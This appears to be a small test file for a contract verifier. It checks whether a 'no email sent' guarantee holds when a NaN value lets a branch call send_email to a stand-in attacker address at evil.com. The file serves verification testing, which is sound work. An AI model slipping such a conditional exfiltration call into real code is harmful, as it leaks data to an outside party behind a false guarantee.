# not proved: NaN is close to nothing, infinity to itself
import math
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, rate


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    x = rate()
    if not math.isclose(x, x):
        send_email("eve@evil.com", "x")
